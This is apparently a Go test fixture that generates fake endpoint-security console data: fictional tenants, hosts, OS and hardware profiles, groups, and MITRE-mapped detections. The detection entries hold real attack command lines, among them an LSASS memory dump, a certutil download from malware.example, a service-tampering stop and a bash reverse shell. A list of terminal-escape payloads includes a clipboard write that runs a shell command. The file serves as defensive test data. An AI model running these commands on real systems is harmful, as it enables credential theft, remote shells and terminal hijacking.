package falcontest

// Vocabulary of the generated dataset. Real product names and versions make
// the demo look like a real console; everything else is invented. Network
// addresses use private and documentation ranges only.

var parentNames = []string{
	"Northwind Security Services", "Bluehaven MSSP", "Ironclad Managed Defense",
	"Sentinel Partners", "Aegis Cyber Operations",
}

var childNames = []string{
	"Acme Manufacturing", "Globex Health", "Initech Finance", "Umbrella Logistics",
	"Stark Retail Group", "Wayne Energy", "Tyrell Biotech", "Soylent Foods",
	"Hooli Media", "Cyberdyne Robotics", "Wonka Confectionery", "Massive Dynamic",
	"Oscorp Research", "Vandelay Industries", "Pied Piper Cloud", "Dunder Mifflin Paper",
}

// companyCode is the hostname prefix of each name above (same order, parents first).
var parentCodes = []string{"NWS", "BHV", "ICD", "SNP", "AEG"}
var childCodes = []string{
	"ACME", "GLBX", "INIT", "UMBR", "STRK", "WAYN", "TYRL", "SOYL",
	"HOOL", "CYBD", "WONK", "MSVD", "OSCP", "VNDL", "PIED", "DMPC",
}

var firstNames = []string{
	"james", "mary", "robert", "patricia", "john", "jennifer", "michael", "linda",
	"david", "elizabeth", "william", "barbara", "richard", "susan", "joseph", "jessica",
	"thomas", "sarah", "carlos", "karen", "wei", "priya", "ahmed", "yuki", "olga",
	"fatima", "lars", "chiara", "mateo", "aisha", "noah", "emma", "liam", "sofia",
}

var lastNames = []string{
	"smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis",
	"rodriguez", "martinez", "hernandez", "lopez", "gonzalez", "wilson", "anderson",
	"thomas", "taylor", "moore", "jackson", "martin", "lee", "perez", "thompson",
	"white", "harris", "sanchez", "clark", "nguyen", "patel", "kim", "muller", "rossi",
}

type site struct {
	name     string
	octet    int    // second octet of the 10.x.0.0/16 site network
	external string // NAT address (documentation ranges)
	utc      string // host_utc_offset
}

var siteTemplates = []site{
	{"NYC", 10, "203.0.113.", "-0500"}, {"LON", 20, "198.51.100.", "+0000"},
	{"FRA", 30, "192.0.2.", "+0100"}, {"SFO", 40, "203.0.113.", "-0800"},
	{"SGP", 50, "198.51.100.", "+0800"}, {"Default-First-Site-Name", 60, "192.0.2.", "-0600"},
	{"TYO", 70, "203.0.113.", "+0900"}, {"SYD", 80, "198.51.100.", "+1000"},
}

// osProfile is one operating-system flavour; hosts store its index.
type osProfile struct {
	platform, platformID    string
	productType, typeDesc   string
	osVersion, productName  string
	osBuild, kernel         string
	major, minor            string
	weight                  int
	agents                  []string
	hostPattern             int // see hostnameFor
	servicePack, pointerSz  string
	chassisType, chassisDsc string
}

var winAgents = []string{"7.20.19207.0", "7.19.19103.0", "7.18.18902.0", "7.16.18605.0", "6.58.16404.0"}
var macAgents = []string{"7.20.19103.0", "7.19.18904.0", "7.18.18804.0", "7.15.18409.0"}
var linAgents = []string{"7.20.17308.0", "7.19.17204.0", "7.18.17106.0", "7.14.16703.0"}

const (
	patWinWorkstation = iota
	patWinServer
	patWinDC
	patMac
	patLinux
)

var osProfiles = []osProfile{
	{"Windows", "0", "1", "Workstation", "Windows 11", "Windows 11 Enterprise", "22631", "10.0.22631.4460", "10", "0", 30, winAgents, patWinWorkstation, "0", "8", "10", "Notebook"},
	{"Windows", "0", "1", "Workstation", "Windows 11", "Windows 11 Pro", "26100", "10.0.26100.2454", "10", "0", 8, winAgents, patWinWorkstation, "0", "8", "3", "Desktop"},
	{"Windows", "0", "1", "Workstation", "Windows 10", "Windows 10 Enterprise", "19045", "10.0.19045.5131", "10", "0", 14, winAgents, patWinWorkstation, "0", "8", "10", "Notebook"},
	{"Windows", "0", "3", "Server", "Windows Server 2022", "Windows Server 2022 Standard", "20348", "10.0.20348.2849", "10", "0", 7, winAgents, patWinServer, "0", "8", "1", "Other"},
	{"Windows", "0", "3", "Server", "Windows Server 2019", "Windows Server 2019 Datacenter", "17763", "10.0.17763.6532", "10", "0", 5, winAgents, patWinServer, "0", "8", "1", "Other"},
	{"Windows", "0", "3", "Server", "Windows Server 2016", "Windows Server 2016 Standard", "14393", "10.0.14393.7515", "10", "0", 2, winAgents, patWinServer, "0", "8", "1", "Other"},
	{"Windows", "0", "2", "Domain Controller", "Windows Server 2022", "Windows Server 2022 Datacenter", "20348", "10.0.20348.2849", "10", "0", 1, winAgents, patWinDC, "0", "8", "1", "Other"},
	{"Mac", "1", "1", "Workstation", "Sequoia (15)", "macOS", "24.1.0", "24.1.0", "15", "1", 8, macAgents, patMac, "", "8", "10", "Notebook"},
	{"Mac", "1", "1", "Workstation", "Sonoma (14)", "macOS", "23.6.0", "23.6.0", "14", "7", 5, macAgents, patMac, "", "8", "10", "Notebook"},
	{"Mac", "1", "1", "Workstation", "Ventura (13)", "macOS", "22.6.0", "22.6.0", "13", "7", 2, macAgents, patMac, "", "8", "10", "Notebook"},
	{"Linux", "3", "3", "Server", "RHEL 9.4", "Red Hat Enterprise Linux", "", "5.14.0-427.42.1.el9_4.x86_64", "5", "14", 5, linAgents, patLinux, "", "8", "1", "Other"},
	{"Linux", "3", "3", "Server", "Ubuntu 22.04", "Ubuntu", "", "5.15.0-125-generic", "5", "15", 6, linAgents, patLinux, "", "8", "1", "Other"},
	{"Linux", "3", "3", "Server", "Ubuntu 24.04", "Ubuntu", "", "6.8.0-49-generic", "6", "8", 3, linAgents, patLinux, "", "8", "1", "Other"},
	{"Linux", "3", "3", "Server", "Amazon Linux 2023", "Amazon Linux", "", "6.1.115-126.197.amzn2023.x86_64", "6", "1", 3, linAgents, patLinux, "", "8", "1", "Other"},
	{"Linux", "3", "3", "Server", "Debian 12", "Debian GNU/Linux", "", "6.1.0-27-amd64", "6", "1", 2, linAgents, patLinux, "", "8", "1", "Other"},
	{"Linux", "3", "1", "Workstation", "Ubuntu 22.04", "Ubuntu", "", "6.8.0-48-generic", "6", "8", 1, linAgents, patLinux, "", "8", "10", "Notebook"},
}

// hwProfile is a hardware model; platform restricts which hosts use it.
type hwProfile struct {
	platform, manufacturer, product, bios, biosVersion string
	serial                                             int // serial pattern
	server                                             bool
}

const (
	serDell = iota
	serLenovo
	serHP
	serApple
	serVMware
	serAzure
	serAWS
)

var hwProfiles = []hwProfile{
	{"Windows", "Dell Inc.", "Latitude 5440", "Dell Inc.", "1.14.1", serDell, false},
	{"Windows", "LENOVO", "ThinkPad T14 Gen 4", "LENOVO", "R2FET62W (1.42 )", serLenovo, false},
	{"Windows", "HP", "HP EliteBook 840 G10", "HP", "V70 Ver. 01.05.00", serHP, false},
	{"Windows", "Dell Inc.", "OptiPlex 7010", "Dell Inc.", "1.9.0", serDell, false},
	{"Windows", "VMware, Inc.", "VMware Virtual Platform", "Phoenix Technologies LTD", "6.00", serVMware, true},
	{"Windows", "Microsoft Corporation", "Virtual Machine", "Microsoft Corporation", "Hyper-V UEFI Release v4.1", serAzure, true},
	{"Windows", "Dell Inc.", "PowerEdge R750", "Dell Inc.", "1.13.2", serDell, true},
	{"Mac", "Apple Inc.", "MacBookPro18,3", "Apple Inc.", "10151.121.1", serApple, false},
	{"Mac", "Apple Inc.", "Mac14,9", "Apple Inc.", "11881.41.5", serApple, false},
	{"Mac", "Apple Inc.", "MacBookAir10,1", "Apple Inc.", "10151.121.1", serApple, false},
	{"Linux", "Amazon EC2", "m5.large", "Amazon EC2", "1.0", serAWS, true},
	{"Linux", "VMware, Inc.", "VMware7,1", "VMware, Inc.", "VMW71.00V.21100432.B64.2301110304", serVMware, true},
	{"Linux", "Dell Inc.", "PowerEdge R650", "Dell Inc.", "1.12.1", serDell, true},
	{"Linux", "LENOVO", "ThinkPad X1 Carbon Gen 11", "LENOVO", "N3XET54W (1.29 )", serLenovo, false},
}

var serverRoles = []string{"SQL", "APP", "FS", "WEB", "EXCH", "RDS", "PRT", "SCCM", "CA", "VDI"}
var linuxRoles = []string{"web", "api", "db", "k8s-node", "kafka", "redis", "build", "bastion", "etl", "cache"}
var linuxEnvs = []string{"prod", "prod", "prod", "stg", "dev"}

// policyTypes are the device_policies keys every host carries.
var policyTypes = []string{"prevention", "sensor_update", "device_control", "firewall", "remote_response", "global_config"}

type groupTemplate struct {
	name, description, groupType, rule string
}

var dynamicGroups = []groupTemplate{
	{"All Windows Servers", "Every Windows server, for server prevention policy", "dynamic", "platform_name:'Windows'+product_type_desc:'Server'"},
	{"Domain Controllers", "Tier 0 assets", "dynamic", "product_type_desc:'Domain Controller'"},
	{"macOS Fleet", "All Macs", "dynamic", "platform_name:'Mac'"},
	{"Linux Production", "Production Linux servers", "dynamic", "platform_name:'Linux'+tags:'FalconGroupingTags/Prod'"},
	{"PCI Scope", "Cardholder data environment", "dynamic", "tags:'FalconGroupingTags/PCI'"},
	{"Windows 10 Legacy", "Upgrade backlog", "dynamic", "os_version:'Windows 10'"},
	{"Ring 1 Sensors", "Early sensor updates", "dynamic", "tags:'SensorGroupingTags/Ring1'"},
	{"NYC Workstations", "", "dynamic", "site_name:'NYC'+product_type_desc:'Workstation'"},
}

var staticGroups = []groupTemplate{
	{"Executives (VIP)", "Hand-picked executive devices", "static", ""},
	{"Kiosks", "Lobby and shop-floor kiosks", "static", ""},
	{"Break-glass Servers", "Do not contain without approval", "static", ""},
	{"Lab Machines", "Security lab", "static", ""},
}

var staticByIDGroups = []groupTemplate{
	{"Sensor Update Canary", "Hosts that get sensor builds first", "staticByID", ""},
	{"Incident IR-2317 Scope", "Hosts in scope of the IR-2317 investigation", "staticByID", ""},
	{"Contractor Laptops", "", "staticByID", ""},
	{"Legacy App Servers", "Pinned to the legacy prevention policy", "staticByID", ""},
}

// attack is one detection scenario: MITRE mapping plus process details.
type attack struct {
	tactic, tacticID, technique, techniqueID string
	name, display, description               string
	scenario, objective                      string
	filename, cmdline                        string
	pattern                                  int
}

var attacks = []attack{
	{"Credential Access", "TA0006", "OS Credential Dumping", "T1003", "CredentialDumpingLsass", "Credential dumping via LSASS", "A process attempted to read LSASS memory, possibly to dump credentials.", "credential_theft", "Gain Access", "rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`, 10197},
	{"Execution", "TA0002", "PowerShell", "T1059.001", "SuspiciousPowerShell", "Suspicious PowerShell command line", "PowerShell ran an encoded command that downloads and executes a payload.", "suspicious_activity", "Follow Through", "powershell.exe", `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, 10131},
	{"Persistence", "TA0003", "Registry Run Keys / Startup Folder", "T1547.001", "RunKeyPersistence", "Registry run key persistence", "A process added an unusual Run key value pointing to a user-writable path.", "persistence", "Keep Access", "reg.exe", `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\upd.exe`, 10245},
	{"Defense Evasion", "TA0005", "Disable or Modify Tools", "T1562.001", "TamperAttempt", "Attempt to tamper with security tools", "A process tried to stop or modify a security product service.", "evade_detection", "Keep Access", "sc.exe", `sc.exe stop CSFalconService`, 10310},
	{"Lateral Movement", "TA0008", "SMB/Windows Admin Shares", "T1021.002", "PsExecLateral", "Remote service creation via admin share", "A service was created remotely through ADMIN$ consistent with PsExec.", "lateral_movement", "Explore", "psexesvc.exe", `C:\Windows\PSEXESVC.exe`, 10410},
	{"Discovery", "TA0007", "Account Discovery", "T1087", "AdRecon", "Active Directory reconnaissance", "Bulk LDAP queries enumerating users and groups were observed.", "reconnaissance", "Explore", "adfind.exe", `adfind.exe -f "(objectcategory=person)" > ad_users.txt`, 10520},
	{"Impact", "TA0040", "Data Encrypted for Impact", "T1486", "RansomwareBehavior", "Ransomware-like file encryption", "A process rapidly rewrote many user files with high-entropy content.", "ransomware", "Follow Through", "svchost32.exe", `C:\ProgramData\svchost32.exe --encrypt --all-drives`, 10601},
	{"Command and Control", "TA0011", "Ingress Tool Transfer", "T1105", "CertutilDownload", "File download with certutil", "certutil.exe was used to download a file from the internet.", "suspicious_activity", "Contact Controlled Systems", "certutil.exe", `certutil.exe -urlcache -split -f http://malware.example/a.exe a.exe`, 10712},
	{"Initial Access", "TA0001", "Phishing", "T1566.001", "MaliciousDocument", "Office application spawned a shell", "WINWORD.EXE started cmd.exe, typical of a malicious macro.", "known_malware", "Gain Access", "cmd.exe", `cmd.exe /c start /b %TEMP%\inv_7731.scr`, 10815},
	{"Privilege Escalation", "TA0004", "Sudo and Sudo Caching", "T1548.003", "SudoAbuse", "Suspicious sudo usage", "A web server account invoked sudo to spawn an interactive shell.", "privilege_escalation", "Gain Access", "bash", `sudo -u root /bin/bash -i`, 10903},
	{"Collection", "TA0009", "Archive Collected Data", "T1560.001", "StagingArchive", "Data staged in password-protected archive", "7-Zip created an encrypted archive of documents in a temp folder.", "data_theft", "Follow Through", "7z.exe", `7z.exe a -pS3cr3t C:\Temp\out.7z C:\Users\*\Documents\*`, 11004},
	{"Exfiltration", "TA0010", "Exfiltration Over Web Service", "T1567.002", "CloudExfil", "Upload to cloud storage tool", "rclone uploaded a large volume of data to an external storage provider.", "data_theft", "Follow Through", "rclone.exe", `rclone.exe copy C:\Shares remote:bkp --transfers 16`, 11102},
	{"Machine Learning", "CSTA0004", "Sensor-based ML", "CST0007", "MLDetection", "Machine learning detection", "The file meets the sensor's high confidence threshold for malicious files.", "NGAV", "Falcon Detection Method", "invoice_2411.exe", `C:\Users\Public\Downloads\invoice_2411.exe`, 10050},
	{"Execution", "TA0002", "Unix Shell", "T1059.004", "ReverseShell", "Reverse shell", "A shell process had its input and output redirected to a network socket.", "suspicious_activity", "Follow Through", "bash", `bash -i >& /dev/tcp/198.51.100.23/4444 0>&1`, 10161},
}

var severityNames = []struct {
	min  int
	name string
}{{90, "Critical"}, {70, "High"}, {50, "Medium"}, {30, "Low"}, {0, "Informational"}}

func severityName(sev int) string {
	for _, s := range severityNames {
		if sev >= s.min {
			return s.name
		}
	}
	return "Informational"
}

// hostileStrings are the payloads WithHostile mixes into text fields: they
// must be carried verbatim over JSON and must not hurt a terminal UI.
var hostileStrings = []string{
	"\x1b[2J\x1b[Hpwned",                                        // CSI: clear screen, cursor home
	"\x1b]52;c;ZWNobyBwd25lZCB8IHNo\x07clip",                    // OSC 52: write the clipboard
	"\x1b]8;;https://evil.example/\x1b\\click-me\x1b]8;;\x1b\\", // OSC 8 hyperlink
	"invoice\u202efdp.exe",                                      // RLO bidi override
	"adm\u200bin\u200d\ufeff",                                   // zero-width characters
	"サーバー東京-01",                                                 // CJK wide characters
	"🔥prod-db🔥👨‍👩‍👧‍👦",                                          // emoji incl. ZWJ sequence
	"Z\u0337\u0322a\u0338l\u0334g\u0335o",                       // stacked combining marks
	"tab\there\nnew\rline\x00nul",                               // C0 controls incl. NUL
	"\x1b[31;1mRED\x1b[0m\x1b[?25l",                             // SGR + hide cursor
}
